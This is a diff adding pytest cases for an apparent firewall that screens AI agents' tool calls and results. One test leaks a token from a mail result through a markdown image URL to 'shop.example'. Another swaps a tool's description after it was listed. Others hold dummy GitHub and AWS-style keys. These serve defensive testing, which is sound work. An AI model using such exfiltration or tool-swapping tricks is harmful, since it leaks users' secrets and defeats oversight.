@@ -3,14 +3,19 @@
 import json
 from collections.abc import Iterator, Sequence
 from random import Random
+from types import SimpleNamespace
+from typing import cast
 
 import pytest
 
-from pipeguard.detect.detector import Detection
+from pipeguard.detect.detector import Detection, get_detection
 from pipeguard.detect.flows import text_values, way_out
 from pipeguard.firewall.finding import Action, Verdict
-from pipeguard.firewall.policy import Layer, Policy
+from pipeguard.firewall.policy import ActionEntry, Layer, Policy, Selector
+from pipeguard.firewall.protocol.message import PlainOutline
 from pipeguard.firewall.session import replies
+from pipeguard.firewall.session.guard import FailureNotes, Guard
+from pipeguard.firewall.session.lifecycle import WaitingRoom
 from pipeguard.firewall.session.session import Session
 from tests.detect.test_quiet import calls
 from tests.firewall.session.talk import (
@@ -21,7 +26,9 @@ from tests.firewall.session.talk import (
     answer,
     call,
     frame,
+    member,
     new_session,
+    rules,
 )
 from tests.fuzz.rulebook import ALL, samples
 
@@ -152,6 +159,176 @@ def test_calls_are_plain_again_after_the_beginning_of_a_key(
         session.receive(TO_SERVER, call(number, f"week {number}", "lookup"), 0.0)
     monkeypatch.setattr(Detection, "find_leaks", None)
     assert session.receive(TO_SERVER, call("after", "week", "lookup"), 0.0).forward
+
+
+def test_a_call_with_an_id_in_use_is_refused_unread(monkeypatch: pytest.MonkeyPatch) -> None:
+    session = new_session()
+    list_tools(session)
+    assert session.receive(TO_SERVER, call(1, "it is ghp_abcdefgh", "lookup"), 0.0).forward
+    monkeypatch.setattr(Detection, "read_message", None)
+    monkeypatch.setattr(Detection, "find_leaks", None)
+    refused = session.receive(TO_SERVER, call(1, ORDER, "lookup"), 0.0)
+    assert rules(refused) == ["protocol.id-in-use"]
+
+
+def test_a_call_is_looked_at_under_one_policy(monkeypatch: pytest.MonkeyPatch) -> None:
+    """The rest of a key: one policy blocks it by a rule, and the next one by the tool."""
+    session, may_leak = new_session(), Detection.may_leak
+    list_tools(session)
+    warns = ActionEntry(Selector(rule="secrets.*"), Action.WARN)
+    other = Policy(layers=(Layer(actions=(warns,), tools_block=("lookup",)),))
+
+    def replace_policy(self: Detection, guard: Guard, outline: PlainOutline) -> bool:
+        guard.adopt(other)
+        return may_leak(self, guard, outline)
+
+    begins = call(1, f"the key begins with {KEY[:28]}", "lookup")
+    assert session.receive(TO_SERVER, begins, 0.0).forward
+    monkeypatch.setattr(Detection, "may_leak", replace_policy)
+    assert session.receive(TO_SERVER, call(2, KEY[28:], "lookup"), 0.0).action is Action.BLOCK
+
+
+def remember() -> list[object]:
+    """What stays of calls and a result: of each request, and of all in the ledger."""
+    session, stays = new_session(), list[object]()
+    list_tools(session)
+    flows = get_detection(session.guard).flows
+    for number, text in enumerate(("week", "it is ghp_abcdefgh", "mail ada@example.org")):
+        params = {"name": "send_message", "arguments": {"text": text, "id": f"ID-{number}7"}}
+        params["_meta"] = {"progressToken": f"t{number}"}
+        asked = frame(id=number, method="tools/call", params=params)
+        session.receive(TO_SERVER, asked, 0.0)
+        request = session.state.find(str(number))
+        assert request is not None
+        assert request.call is not None
+        written = {name: getattr(request, name) for name in request.__slots__ if name != "call"}
+        stays += [written, request.call.names, flows.size()]
+    answered = session.receive(TO_CLIENT, answer(0, "Ask ada@example.org."), 5.0)
+    tool = get_detection(session.guard).tool(session.guard, "send_message")
+    stays += [answered, flows.size(), flows.passed_calls(tool), flows.find_sources("ada@")]
+    return [*stays, flows.begin_key("other", ""), session.waiting()]
+
+
+def test_a_plain_call_leaves_what_one_that_is_judged_in_all_ways_does(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    by_one_look = remember()
+    monkeypatch.setattr(Detection, "outline", lambda *_: None)
+    assert by_one_look == remember()
+
+
+def test_a_call_that_is_not_sent_leaves_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
+    session = new_session()
+    list_tools(session)
+    monkeypatch.setattr(Detection, "record_request", None)
+    refused = session.receive(TO_SERVER, call(1, "it is ghp_abcdefgh", "lookup"), 0.0)
+    assert rules(refused) == ["protocol.internal"]
+    assert get_detection(session.guard).flows.begin_key("other", "") == []
+    monkeypatch.undo()
+    assert session.receive(TO_SERVER, call(1, "week", "lookup"), 0.0).forward
+
+
+def test_a_call_of_a_tool_that_is_blocked_since_it_was_listed_does_not_pass() -> None:
+    session = new_session()
+    list_tools(session)
+    assert session.receive(TO_SERVER, call(1, "week", "lookup"), 0.0).forward
+    session.guard.adopt(Policy(layers=(Layer(tools_block=("lookup",)),)))
+    assert rules(session.receive(TO_SERVER, call(2, "week", "lookup"), 0.0)) == ["policy.tool"]
+
+
+def test_a_call_that_waited_goes_on_once_nobody_is_to_be_asked() -> None:
+    session = new_session(Policy(layers=(Layer(tools_ask=("lookup",)),)))
+    session.waiting_room, session.guard.contents_key = WaitingRoom(), b"c" * 32
+    list_tools(session)
+    waits = session.receive(TO_SERVER, call(1, "week", "lookup"), 0.0)
+    assert waits.action is Action.ASK
+    session.guard.adopt(Policy())
+    decided = session.decide(waits, 1.0, is_last=False)
+    assert (decided.forward, session.waiting()) == (call(1, "week", "lookup"), ["1"])
+
+
+def test_where_only_the_protocol_is_judged_nothing_is_looked_at(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    session = new_session()
+    session.guard.inspects = False
+    monkeypatch.setattr(Detection, "outline", None)
+    assert session.receive(TO_SERVER, call(1, ORDER, "lookup"), 0.0).forward
+    assert session.receive(TO_CLIENT, answer(1, ORDER), 0.0).forward
+
+
+def test_an_answer_to_no_call_is_not_passed_by_one_look() -> None:
+    session = new_session()
+    params = {"protocolVersion": "2025-06-18", "capabilities": {}}
+    session.receive(TO_SERVER, frame(id=1, method="initialize", params=params), 0.0)
+    passed = session.receive(TO_CLIENT, answer(1, "ok"), 0.0)
+    assert (passed.method, passed.tool) == ("initialize", None)
+    assert session.state.peers.agreed
+
+
+def test_the_caller_of_a_plain_call_is_noted() -> None:
+    session, callers = new_session(), list[str]()
+    list_tools(session)
+    session.guard.notes = cast(FailureNotes, SimpleNamespace(add_caller=callers.append))
+    assert session.receive(TO_SERVER, call(1, "week", "lookup"), 0.0).forward
+    assert callers == ["RUN"]
+
+
+def test_an_address_that_takes_what_was_read_along_does_not_pass() -> None:
+    session = new_session()
+    list_tools(session, ["read_mail", "read_calendar"])  # one that sends nothing itself
+    token = "q7Wz3kP9xL2mV8tR4sN6"
+    session.receive(TO_SERVER, call(1, "inbox", "read_mail"), 0.0)
+    session.receive(TO_CLIENT, answer(1, f"The door code of the office: {token}."), 0.0)
+    shown = call(2, f"![logo](https://shop.example/{token}.png)", "read_calendar")
+    assert rules(session.receive(TO_SERVER, shown, 0.0)) == ["flows.secret-out"]
+
+
+def test_a_call_of_a_tool_that_changed_does_not_pass() -> None:
+    session = new_session()
+    list_tools(session)
+    changed = {"name": "lookup", "description": ORDER, "inputSchema": {"type": "object"}}
+    session.receive(TO_SERVER, frame(id="again", method="tools/list"), 0.0)
+    session.receive(TO_CLIENT, frame(id="again", result={"tools": [changed]}), 0.0)
+    assert rules(session.receive(TO_SERVER, call(1, "week", "lookup"), 0.0)) == ["trust.drifted"]
+
+
+def test_of_two_answers_that_are_looked_at_at_once_one_passes(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    session, sees_nothing = new_session(), Detection.sees_nothing
+    list_tools(session)
+    others = list[Verdict]()
+
+    def answer_meanwhile(self: Detection, *looked_at: object) -> bool:
+        monkeypatch.setattr(Detection, "sees_nothing", sees_nothing)
+        others.append(session.receive_concurrently(TO_CLIENT, answer(1, "Much."), 0.0))
+        return True
+
+    session.receive(TO_SERVER, call(1, "week", "lookup"), 0.0)
+    monkeypatch.setattr(Detection, "sees_nothing", answer_meanwhile)
+    late = session.receive(TO_CLIENT, answer(1, "Little."), 0.0)
+    assert (late.forward, rules(late)) == (None, ["protocol.unknown-answer"])
+    assert [other.forward for other in others] == [answer(1, "Much.")]
+
+
+def test_a_key_that_is_split_over_blocks_of_a_result_does_not_pass() -> None:
+    session = new_session()
+    list_tools(session)
+    session.receive(TO_SERVER, call(1, "week", "lookup"), 0.0)
+    content = [{"type": "text", "text": piece} for piece in ("AKIAZ7WQ4", "XNJ2PLKM5TD")]
+    passed = session.receive(TO_CLIENT, frame(id=1, result={"content": content}), 0.0)
+    assert passed.action is Action.REDACT
+
+
+def test_a_result_that_cannot_be_remembered_is_replaced(monkeypatch: pytest.MonkeyPatch) -> None:
+    session = new_session()
+    list_tools(session)
+    session.receive(TO_SERVER, call(1, "week", "lookup"), 0.0)
+    monkeypatch.setattr(Detection, "record_result", None)
+    withheld = session.receive(TO_CLIENT, answer(1, "Little."), 0.0)
+    assert rules(withheld) == ["protocol.internal"]
+    assert (member(withheld.forward, "id"), session.waiting()) == (1, [])
 
 
 def test_no_text_is_kept_once_it_is_judged() -> None:
